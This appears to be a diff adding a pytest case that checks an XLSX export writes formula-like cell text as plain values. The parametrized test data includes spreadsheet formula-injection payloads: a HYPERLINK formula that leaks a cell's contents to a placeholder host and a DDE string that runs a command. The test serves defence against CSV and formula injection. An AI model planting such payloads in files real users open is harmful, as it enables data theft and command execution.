@@ -10,6 +10,7 @@ import struct
 import zipfile
 import zlib
 from xml.etree import ElementTree
+from xml.sax.saxutils import escape
 
 import pandas as pd
 import pytest
@@ -284,3 +285,23 @@ def test_xlsx_headers_are_chinese_over_the_stable_ids(regions_with_qualifiers_an
         assert list(top.iloc[0]) == [zh for _, zh in columns] and list(top.iloc[1]) == [i for i, _ in columns]
         assert all(re.search(r"[\u4e00-\u9fff]", zh) for _, zh in columns)
     assert zipfile.ZipFile(io.BytesIO(data)).infolist()[0].date_time == (2022, 9, 23, 0, 0, 0)
+
+
+@pytest.mark.parametrize(
+    "payload", ['=HYPERLINK("http://x/?leak="&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)"]
+)
+def test_text_a_spreadsheet_would_run_is_written_as_text(regions_with_qualifiers_and_tables, payload):
+    """Every cell figures.xlsx holds is a value: a note that reads like a formula stays text (no <f> element)."""
+    region = regions_with_qualifiers_and_tables[0]
+    chapters, _ = region_chapters(region.id)
+    region.facts.loc[region.facts.index[0], "period_note"] = payload
+    try:
+        data = editions.figures_xlsx(
+            region, chapters, _published(region, chapters, 2020, 2020), (2020, 2020), region.name_zh, payload, WHEN
+        )
+    finally:
+        region.facts.loc[region.facts.index[0], "period_note"] = None
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
+    assert any(escape(payload) in sheet for sheet in sheets)
